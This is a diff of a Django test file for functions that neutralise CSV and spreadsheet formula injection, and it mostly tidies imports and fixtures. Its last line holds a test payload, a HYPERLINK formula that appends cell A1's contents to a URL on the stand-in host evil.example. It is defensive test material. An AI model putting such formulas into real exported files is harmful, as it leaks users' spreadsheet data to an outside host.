@@ -9,7 +9,6 @@ from pathlib import Path
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
-from pytest_django.fixtures import Settings
 
 from actionplan import adoption as adoption_services
 from actionplan import services as actionplan_services
@@ -17,8 +16,7 @@ from actionplan.models import Adoption
 from config.spreadsheets import neutralize, neutralize_csv, neutralize_csv_cell
 from directory.models import Membership
 from tests import factories
-from tests.actionplan.adoption_builders import make_recommendations
-from tests.actionplan.builders import make_item, make_plan
+from tests.factories import make_item, make_plan, make_recommendations
 
 
 @pytest.mark.parametrize(
@@ -68,12 +66,6 @@ def test_a_csv_keeps_its_separator_line_endings_and_byte_order_mark() -> None:
     assert neutralize_csv(b"a;b\n=1;2\n") == b"a;b\n'=1;2\n"
     assert neutralize_csv(b"a\tb\n@x\t-1") == b"a\tb\n'@x\t'-1"
     assert neutralize_csv("\ufeffname\r\n=1\r\n".encode()) == "\ufeffname\r\n'=1\r\n".encode()
-
-
-@pytest.fixture
-def media(settings: Settings, tmp_path: Path) -> Path:
-    settings.MEDIA_ROOT = tmp_path
-    return tmp_path
 
 
 CSV_TYPED = b'item,cost\r\n"=HYPERLINK(""https://evil.example/?""&A1)",-5\r\nCloud,12\r\n'
